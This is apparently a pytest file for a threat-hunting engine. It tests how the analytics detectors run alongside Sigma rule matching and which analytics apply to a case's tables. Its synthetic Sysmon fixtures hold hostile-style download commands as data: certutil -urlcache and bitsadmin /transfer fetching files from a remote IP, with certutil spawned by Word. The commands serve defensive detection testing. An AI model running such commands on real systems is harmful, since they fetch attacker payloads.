"""The analytics run beside the building of the Sigma findings when matching gave many hits
(``engine._run_detectors``): the findings are those of the two run one after the other."""

from __future__ import annotations

import threading
from datetime import UTC, datetime, timedelta

import orjson

from tidehunt import engine
from tidehunt.context import RunContext
from tidehunt.detect.analytics.detector import AnalyticsDetector
from tidehunt.engine import HuntOptions, hunt

NOW = datetime.now(UTC)


def _ev(rid: int, eid: int, data: dict) -> bytes:
    ts = (NOW - timedelta(days=3, seconds=rid)).isoformat().replace("+00:00", "Z")
    return orjson.dumps({"Event": {"System": {
        "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}}, "EventID": eid,
        "TimeCreated": {"#attributes": {"SystemTime": ts}}, "EventRecordID": rid,
        "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": "WS9.corp.example"},
        "EventData": data}}) + b"\n"


def _hunt(tmp_path, name: str, monkeypatch, overlap_hits: int,
          half_share_hits: int = 0) -> tuple[bytes, list]:
    ev = tmp_path / "ev"
    if not ev.exists():
        ev.mkdir()
        (ev / "sysmon.json").write_bytes(b"".join([
            _ev(1, 22, {"QueryName": "www.vitaminmain.info", "Image": r"C:\x\a.exe"}),
            _ev(2, 1, {"Image": r"C:\Windows\System32\certutil.exe", "ParentImage":
                       r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
                       "CommandLine": "certutil -urlcache -split -f http://198.51.100.7/a a"}),
            _ev(3, 1, {"Image": r"C:\Windows\System32\bitsadmin.exe",
                       "CommandLine": "bitsadmin /transfer j http://198.51.100.7/b c:\\b"}),
        ]))
    monkeypatch.setattr(engine, "OVERLAP_HITS", overlap_hits)
    monkeypatch.setattr(engine, "HALF_SHARE_HITS", half_share_hits)
    threads: list[str] = []
    budgets: list[float] = []
    real = AnalyticsDetector.run

    def spy(self, store, ctx):
        threads.append(threading.current_thread().name)
        budgets.append(self.options.duckdb_fraction)
        yield from real(self, store, ctx)

    monkeypatch.setattr(AnalyticsDetector, "run", spy)
    case = tmp_path / name
    hunt([str(ev)], case, RunContext(), HuntOptions(workers=1, retro=True))
    return (case / "findings.jsonl").read_bytes(), threads + budgets


def test_overlapped_analytics_give_the_same_findings(tmp_path, monkeypatch):
    one_by_one, how = _hunt(tmp_path, "seq", monkeypatch, overlap_hits=10**9)
    assert how[1] == 1.0  # after the Sigma findings: DuckDB's whole share of the budget
    beside, how = _hunt(tmp_path, "overlap", monkeypatch, overlap_hits=0)
    assert how[0].startswith("analytics") and how[1] == 0.5  # beside them: half of it
    assert beside == one_by_one
    # beside findings too few to weigh in the budget: DuckDB keeps its whole share
    few, how = _hunt(tmp_path, "overlap-few", monkeypatch, overlap_hits=0,
                     half_share_hits=10**9)
    assert how[0].startswith("analytics") and how[1] == 1.0
    assert few == one_by_one
    rules = {orjson.loads(x)["rule_id"] for x in beside.splitlines()}
    assert "th-analytic-0034" in rules and len(rules) >= 2  # an analytic and Sigma rules


def test_applicability_from_one_table_listing(tmp_path, monkeypatch):
    """Which analytics run is decided from one listing of the case's tables
    (``table_names``): the same answers as asking ``has_table`` of each, every analytic
    not run names a table the case lacks, and every analytic run has what it reads."""
    from tidehunt.case.store import CaseStore
    from tidehunt.detect.analytics.base import has_table, table_names
    from tidehunt.detect.analytics.detector import AnalyticsOptions, analytics

    _hunt(tmp_path, "case", monkeypatch, overlap_hits=10**9)
    store = CaseStore(tmp_path / "case")
    con = store.connect()
    try:
        names = table_names(con)
        probe = {"windows", "web_access", "mail", "net_conn", "auth", "indicator", "file",
                 "http", "dns", "tls", "proxy", "inventory"}
        assert {t for t in probe if has_table(con, t)} == names & probe
        assert "windows" in names and "web_access" not in names and "mail" not in names
    finally:
        con.close()
    det = AnalyticsDetector(AnalyticsOptions())
    list(det.run(store, RunContext()))
    skipped = {s["analytic"]: s["reason"] for s in det.stats.not_applicable}
    everything = analytics()
    assert skipped and len(skipped) < len(everything)
    for name, cls in everything.items():
        if name in skipped:
            lacking = skipped[name].removeprefix("case has no ").removesuffix(" rows")
            assert all(t.strip() not in names for part in lacking.split(", ")
                       for t in part.split(" or ")), (name, skipped[name])
        else:
            assert set(cls.READS) <= names, name
            assert not cls.READS_ANY or cls.READS_ANY & names, name
